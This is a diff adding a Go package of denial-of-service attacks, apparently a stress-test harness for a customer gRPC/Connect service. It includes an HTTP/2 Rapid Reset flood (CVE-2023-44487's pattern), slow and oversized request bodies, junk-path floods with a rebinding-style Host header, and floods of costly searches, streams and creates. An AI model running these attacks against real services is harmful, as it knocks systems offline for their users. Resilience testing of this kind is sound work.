@@ -1,0 +1,426 @@
+package attack
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"net/http"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"connectrpc.com/connect"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	customerv1 "customerd/internal/gen/customer/v1"
+	"customerd/internal/gen/customer/v1/customerv1connect"
+)
+
+const servicePath = "/" + customerv1connect.CustomerServiceName + "/"
+
+// JunkPaths sends n POSTs to CustomerService paths of pathBytes random
+// letters, from 8 clients at once, without an API key; with foreignHost
+// they name another host in their Host header (what a DNS-rebinding page
+// sends). Each answer would, on a server that labels metrics by path, add
+// a series that lives forever.
+func JunkPaths(ctx context.Context, t Target, n, pathBytes int, foreignHost bool) *Answers {
+	a := &Answers{}
+	client := &http.Client{Timeout: 30 * time.Second}
+	var next atomic.Int64
+	var wg sync.WaitGroup
+	for range 8 {
+		wg.Go(func() {
+			for next.Add(1) <= int64(n) && ctx.Err() == nil {
+				req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.URL+servicePath+junk(pathBytes), strings.NewReader("{}"))
+				if err != nil {
+					a.Add("error")
+					continue
+				}
+				req.Header.Set("Content-Type", "application/json")
+				if foreignHost {
+					req.Host = "rebound.example:80"
+				}
+				resp, err := client.Do(req)
+				if err != nil {
+					a.Add(errorName(err))
+					continue
+				}
+				a.Add(codeOf(resp, drain(resp)))
+			}
+		})
+	}
+	wg.Wait()
+	return a
+}
+
+// RapidReset opens conns HTTP/2 connections without TLS and on each sends,
+// as fast as it can until ctx ends, a GetCustomer call's HEADERS and at
+// once an RST_STREAM cancelling it (CVE-2023-44487's pattern). It counts
+// the streams it reset ("reset"), and what ended its connections.
+func RapidReset(ctx context.Context, t Target, conns int) *Answers {
+	a := &Answers{}
+	var wg sync.WaitGroup
+	for range conns {
+		wg.Go(func() {
+			for ctx.Err() == nil {
+				if err := rapidResetConn(ctx, t, a); err != nil && ctx.Err() == nil {
+					a.Add("connection ended: " + errorName(err))
+					waitOrDone(ctx, 50*time.Millisecond)
+				}
+			}
+		})
+	}
+	wg.Wait()
+	return a
+}
+
+// rapidResetConn runs RapidReset on one connection until ctx ends or the
+// server ends the connection.
+func rapidResetConn(ctx context.Context, t Target, a *Answers) error {
+	conn, err := t.dial(ctx)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	stop := context.AfterFunc(ctx, func() { conn.Close() })
+	defer stop()
+	w := bufio.NewWriterSize(conn, 64<<10)
+	var mu sync.Mutex // one writer at a time: the loop below and the reader's acks
+	fr := http2.NewFramer(w, conn)
+	if _, err := w.WriteString(http2.ClientPreface); err != nil {
+		return err
+	}
+	if err := fr.WriteSettings(); err != nil {
+		return err
+	}
+	if err := w.Flush(); err != nil {
+		return err
+	}
+	readErr := make(chan error, 1)
+	go func() {
+		for {
+			f, err := fr.ReadFrame()
+			if err != nil {
+				readErr <- err
+				return
+			}
+			mu.Lock()
+			switch f := f.(type) {
+			case *http2.SettingsFrame:
+				if !f.IsAck() {
+					err = fr.WriteSettingsAck()
+				}
+			case *http2.PingFrame:
+				if !f.IsAck() {
+					err = fr.WritePing(true, f.Data)
+				}
+			case *http2.GoAwayFrame:
+				a.Add("goaway " + f.ErrCode.String())
+			}
+			if err == nil {
+				err = w.Flush()
+			}
+			mu.Unlock()
+			if err != nil {
+				readErr <- err
+				return
+			}
+		}
+	}()
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for id := uint32(1); id < 1<<31-1 && ctx.Err() == nil; id += 2 {
+		block.Reset()
+		for _, f := range [][2]string{
+			{":method", "POST"}, {":scheme", "http"}, {":authority", t.host()},
+			{":path", servicePath + "GetCustomer"}, {"content-type", "application/grpc"}, {"te", "trailers"},
+		} {
+			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		}
+		if t.Key != "" {
+			_ = enc.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + t.Key, Sensitive: true})
+		}
+		mu.Lock()
+		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
+		if err == nil {
+			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		}
+		if err == nil && id%64 == 1 {
+			err = w.Flush()
+		}
+		mu.Unlock()
+		if err != nil {
+			return err
+		}
+		a.Add("reset")
+		select {
+		case err := <-readErr:
+			return err
+		default:
+		}
+	}
+	return ctx.Err()
+}
+
+// Body is a request body an attack sends slowly or not at all.
+type Body struct {
+	// Path is the request's path, such as "/customer.v1.CustomerService/GetCustomer".
+	Path string
+	// ContentType is its Content-Type.
+	ContentType string
+	// ContentLength is what its Content-Length says; negative sends the
+	// body chunked, without one.
+	ContentLength int64
+	// First is sent at once after the headers.
+	First []byte
+	// Trickle, when positive, is the pause after which one more byte is
+	// sent, again and again; zero sends nothing more.
+	Trickle time.Duration
+}
+
+// GRPCWebWatch is the body of a WatchCustomers call over gRPC-Web that
+// claims a 2 GiB body and sends a frame header and 1 MiB of it.
+func GRPCWebWatch() Body {
+	first := binary.BigEndian.AppendUint32([]byte{0}, 1<<30)
+	return Body{
+		Path: servicePath + "WatchCustomers", ContentType: "application/grpc-web+proto",
+		ContentLength: 1 << 31, First: append(first, bytes.Repeat([]byte{'x'}, 1<<20)...),
+	}
+}
+
+// SlowBodies keeps conns HTTP/1.1 connections each sending body b, one
+// request at a time, until ctx ends: as soon as a request is answered or
+// its connection closed, it starts another. It counts the answers.
+func SlowBodies(ctx context.Context, t Target, conns int, b Body) *Answers {
+	a := &Answers{}
+	var wg sync.WaitGroup
+	for range conns {
+		wg.Go(func() {
+			for ctx.Err() == nil {
+				code := slowBody(ctx, t, b)
+				if ctx.Err() == nil {
+					a.Add(code)
+				}
+			}
+		})
+	}
+	wg.Wait()
+	return a
+}
+
+// slowBody sends one request with body b and returns the code of its
+// answer, or what ended it.
+func slowBody(ctx context.Context, t Target, b Body) string {
+	conn, err := t.dial(ctx)
+	if err != nil {
+		waitOrDone(ctx, 50*time.Millisecond)
+		return errorName(err)
+	}
+	defer conn.Close()
+	stop := context.AfterFunc(ctx, func() { conn.Close() })
+	defer stop()
+	var head strings.Builder
+	fmt.Fprintf(&head, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\n", b.Path, t.host(), b.ContentType)
+	if t.Key != "" {
+		fmt.Fprintf(&head, "Authorization: Bearer %s\r\n", t.Key)
+	}
+	if b.ContentLength >= 0 {
+		fmt.Fprintf(&head, "Content-Length: %d\r\n\r\n", b.ContentLength)
+	} else {
+		head.WriteString("Transfer-Encoding: chunked\r\n\r\n")
+	}
+	chunk := func(p []byte) []byte {
+		if b.ContentLength >= 0 {
+			return p
+		}
+		return fmt.Appendf(nil, "%x\r\n%s\r\n", len(p), p)
+	}
+	answered := make(chan string, 1)
+	go func() {
+		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			answered <- errorName(err)
+			return
+		}
+		answered <- codeOf(resp, drain(resp))
+	}()
+	// Write in the background: a server that answers without reading the
+	// body leaves a large first write blocked.
+	wrote := make(chan error, 1)
+	go func() {
+		_, err := conn.Write(append([]byte(head.String()), chunk(b.First)...))
+		for err == nil && b.Trickle > 0 && waitOrDone(ctx, b.Trickle) {
+			_, err = conn.Write(chunk([]byte{'x'}))
+		}
+		wrote <- err
+	}()
+	select {
+	case code := <-answered:
+		return code
+	case <-ctx.Done():
+		return "canceled"
+	case err := <-wrote:
+		if err == nil {
+			err = ctx.Err()
+		}
+		// The server may have answered and closed: read what it said.
+		select {
+		case code := <-answered:
+			return code
+		case <-time.After(5 * time.Second):
+			return errorName(err)
+		}
+	}
+}
+
+// Client returns a generated client of the target over gRPC on cleartext
+// HTTP/2, presenting the target's key.
+func (t Target) Client() customerv1connect.CustomerServiceClient {
+	p := new(http.Protocols)
+	p.SetUnencryptedHTTP2(true)
+	hc := &http.Client{Transport: &http.Transport{Protocols: p}}
+	return customerv1connect.NewCustomerServiceClient(hc, t.URL, connect.WithGRPC(), connect.WithInterceptors(t.keyInterceptor()))
+}
+
+// ConnectClient returns a generated client of the target over Connect
+// JSON on HTTP/1.1, presenting the target's key.
+func (t Target) ConnectClient() customerv1connect.CustomerServiceClient {
+	hc := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 64}}
+	return customerv1connect.NewCustomerServiceClient(hc, t.URL, connect.WithProtoJSON(), connect.WithInterceptors(t.keyInterceptor()))
+}
+
+func (t Target) keyInterceptor() connect.Interceptor {
+	return keyInterceptor(t.Key)
+}
+
+// keyInterceptor adds an Authorization header to every call.
+type keyInterceptor string
+
+func (k keyInterceptor) WrapUnary(next connect.UnaryFunc) connect.UnaryFunc {
+	return func(ctx context.Context, req connect.AnyRequest) (connect.AnyResponse, error) {
+		if k != "" {
+			req.Header().Set("Authorization", "Bearer "+string(k))
+		}
+		return next(ctx, req)
+	}
+}
+
+func (k keyInterceptor) WrapStreamingClient(next connect.StreamingClientFunc) connect.StreamingClientFunc {
+	return func(ctx context.Context, spec connect.Spec) connect.StreamingClientConn {
+		conn := next(ctx, spec)
+		if k != "" {
+			conn.RequestHeader().Set("Authorization", "Bearer "+string(k))
+		}
+		return conn
+	}
+}
+
+func (k keyInterceptor) WrapStreamingHandler(next connect.StreamingHandlerFunc) connect.StreamingHandlerFunc {
+	return next
+}
+
+// Watchers opens n WatchCustomers streams over gRPC (HTTP/2 connections
+// of the client's choosing), each reading every change, and keeps them
+// until ctx ends. It counts how each stream ended: "open" for the ones
+// still open at the end that received a change ("quiet" for those that
+// received none: open, or not yet answered), else the code the server
+// ended it with; events counts the changes they received.
+func Watchers(ctx context.Context, t Target, n int, events *atomic.Int64) *Answers {
+	a := &Answers{}
+	client := t.Client()
+	var wg sync.WaitGroup
+	for range n {
+		wg.Go(func() {
+			stream, err := client.WatchCustomers(ctx, &customerv1.WatchCustomersRequest{})
+			if err != nil {
+				a.Add(connectCode(ctx, err))
+				return
+			}
+			defer stream.Close()
+			got := false
+			for stream.Receive() {
+				if stream.Msg().GetCustomer() != nil {
+					events.Add(1)
+					got = true
+				}
+			}
+			code := connectCode(ctx, stream.Err())
+			if code == "open" && !got {
+				code = "quiet"
+			}
+			a.Add(code)
+		})
+	}
+	wg.Wait()
+	return a
+}
+
+// connectCode names the outcome of a call: "open" when it lasted until
+// ctx ended.
+func connectCode(ctx context.Context, err error) string {
+	switch {
+	case ctx.Err() != nil:
+		return "open"
+	}
+	return codeName(err)
+}
+
+// codeName names the Connect code of a call's error, "ok" for none.
+func codeName(err error) string {
+	if err == nil {
+		return "ok"
+	}
+	return connect.CodeOf(err).String()
+}
+
+// ExpensiveSearchRequest is the costliest search a client could ask for in
+// one call: a common word forty times over, counted, ordered by name.
+func ExpensiveSearchRequest(word string) *customerv1.ListCustomersRequest {
+	return &customerv1.ListCustomersRequest{Query: strings.Repeat(word+" ", 40), IncludeTotal: true, OrderBy: "name"}
+}
+
+// Searches has clients send req over and over until ctx ends.
+func Searches(ctx context.Context, t Target, clients int, req *customerv1.ListCustomersRequest) *Answers {
+	a := &Answers{}
+	c := t.ConnectClient()
+	var wg sync.WaitGroup
+	for range clients {
+		wg.Go(func() {
+			for ctx.Err() == nil {
+				_, err := c.ListCustomers(ctx, req)
+				if ctx.Err() == nil {
+					a.Add(connectCode(ctx, err))
+				}
+			}
+		})
+	}
+	wg.Wait()
+	return a
+}
+
+// Creates has clients create customers until ctx ends and returns how many
+// were created.
+func Creates(ctx context.Context, t Target, clients int) int {
+	c := t.Client()
+	var n atomic.Int64
+	var wg sync.WaitGroup
+	prefix := junk(8)
+	for i := range clients {
+		wg.Go(func() {
+			for j := 0; ctx.Err() == nil; j++ {
+				_, err := c.CreateCustomer(ctx, &customerv1.CreateCustomerRequest{Customer: &customerv1.Customer{
+					Name: "Attack Writer", Email: fmt.Sprintf("%s-%d-%d@example.com", prefix, i, j),
+				}})
+				if err == nil && ctx.Err() == nil {
+					n.Add(1)
+				}
+			}
+		})
+	}
+	wg.Wait()
+	return int(n.Load())
+}
